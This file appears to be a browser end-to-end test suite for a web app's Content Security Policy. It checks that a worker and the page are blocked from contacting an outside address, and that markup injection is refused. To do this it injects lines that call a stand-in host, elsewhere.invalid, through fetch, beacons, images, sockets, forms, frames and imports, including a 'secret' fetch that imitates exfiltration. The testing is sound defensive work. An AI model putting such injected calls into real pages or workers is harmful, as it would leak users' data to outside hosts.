// The policy has teeth: what it forbids is stopped and told, by page and worker. Else a test that sees no violation would see nothing.

import assert from 'node:assert/strict';
import { alterWorker, sample } from '../../../xtask/web/states.mjs';
import { en, onPage, proxy, site } from './house.mjs';

/** @typedef {import('./house.mjs').EbbReport} EbbReport */

/** No such place: what is asked for there is seen by the proxy only. */
export const ELSEWHERE = 'http://elsewhere.invalid/';

const seen = (/** @type {string} */ what) => proxy.asked.some(({ url }) => url.startsWith(`${ELSEWHERE}${what}`));

/** @param {import('./house.mjs').Page} page @param {number} least */
async function violations(page, least) {
  await page.waitForFunction((least) => /** @type {EbbReport} */ (document.querySelector('ebb-report')).requests.violations.length >= least, least);
  return page.evaluate(() => /** @type {EbbReport} */ (document.querySelector('ebb-report')).requests.violations);
}

/** Adds a line to a file of the site on its way to the page. @param {import('./house.mjs').Page} page @param {RegExp} file @param {(text: string) => string} change */
const altered = (page, file, change) =>
  page.route(file, async (route) => {
    const answer = await route.fetch();
    await route.fulfill({ response: answer, body: change(await answer.text()) });
  });

onPage('a worker that asks for another address is stopped, and the page tells of it', {
  trouble: true,
  before: (page) => alterWorker(page, { after: `fetch('${ELSEWHERE}worker?secret').catch(() => {}); try { importScripts('${ELSEWHERE}script'); } catch {}` }),
}, async (page) => {
  const told = await violations(page, 1);
  assert.ok(told.some(({ directive, blocked }) => directive === 'connect-src' && blocked.startsWith(ELSEWHERE)), JSON.stringify(told));
  await sample(page);
  await page.locator('[data-opens=requests]').click();
  await page.getByText(en.t('requests-blocked', { n: (await violations(page, 1)).length })).waitFor();
  assert.equal(seen('worker'), false, 'it was not sent');
  assert.equal(seen('script'), false, 'it was not sent');
});

onPage('a page that asks for another address in one of many ways is stopped each time', {
  trouble: true,
  before: (page) =>
    altered(page, /\/main-[^/]*\.js$/, (text) => `${text}
      fetch('${ELSEWHERE}fetch').catch(() => {});
      navigator.sendBeacon('${ELSEWHERE}beacon', 'x');
      new Image().src = '${ELSEWHERE}image';
      try { new WebSocket('ws://elsewhere.invalid/socket'); } catch {}
      try { new EventSource('${ELSEWHERE}events'); } catch {}
      document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${ELSEWHERE}style' }));
      document.body.append(Object.assign(document.createElement('iframe'), { src: '${ELSEWHERE}frame' }));
      const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: '${ELSEWHERE}form', target: 'frame' }));
      form.submit();
      import('${ELSEWHERE}module').catch(() => {});`),
}, async (page) => {
  const told = await violations(page, 9);
  assert.deepEqual([...new Set(told.map(({ directive }) => directive))].sort(), ['connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem', 'style-src-elem']);
  await page.waitForTimeout(200);
  for (const what of ['fetch', 'beacon', 'image', 'socket', 'events', 'style', 'frame', 'form', 'module']) assert.equal(seen(what), false, `${what} was not sent`);
});

onPage('text that would become markup is refused by the browser itself', {
  trouble: true,
  before: (page) => altered(page, /\/main-[^/]*\.js$/, (text) => `${text}\ntry { document.body.innerHTML = '<b>x</b>'; document.title = 'markup'; } catch { document.title = 'refused'; }`),
}, async (page) => {
  assert.equal(await page.title(), 'refused');
  assert.ok((await violations(page, 1)).some(({ directive }) => directive === 'require-trusted-types-for'));
});

onPage('without the policy the same line is sent, and the proxy sees it', {
  trouble: true,
  before: async (page) => {
    await altered(page, new RegExp(`^${site}/(#.*)?$`), (text) => text.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
    await alterWorker(page, { after: `fetch('${ELSEWHERE}open').catch(() => {});` });
  },
}, async (page) => {
  await page.waitForFunction(() => /** @type {EbbReport} */ (document.querySelector('ebb-report')).requests.before.length > 0);
  for (let waited = 0; waited < 5000 && !seen('open'); waited += 50) await page.waitForTimeout(50);
  assert.equal(seen('open'), true);
});
